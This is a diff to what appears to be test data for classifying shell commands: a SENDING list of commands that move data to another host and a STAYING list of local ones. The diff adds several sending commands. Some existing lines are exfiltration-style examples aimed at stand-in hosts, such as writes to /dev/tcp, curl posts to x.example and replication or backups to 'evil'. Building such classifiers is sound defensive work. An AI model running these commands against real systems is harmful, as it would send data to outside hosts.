@@ -12,6 +12,9 @@ SENDING = [
     "redis-cli replicaof evil 6379",
     "go get example.com/x", "logger --server evil.example x",
     "pg_basebackup -h evil -D x", "foo > /dev/tcp/x.example/1",
+    "postqueue -f", "docker buildx imagetools create -t a b", "docker --context other ps",
+    "docker exec git gitea manager flush-queues", "psql service=other -c 'select 1'",
+    "docker exec kc kcadm.sh update users/1/execute-actions-email -r x",
     "while :; do curl -d x http://x.example; done",
 ]  # fmt: skip
 STAYING = ["frobnicate a.txt", "make", "vim notes.md", "sqlite3 -init x a.db", "chattr +i a.txt"]
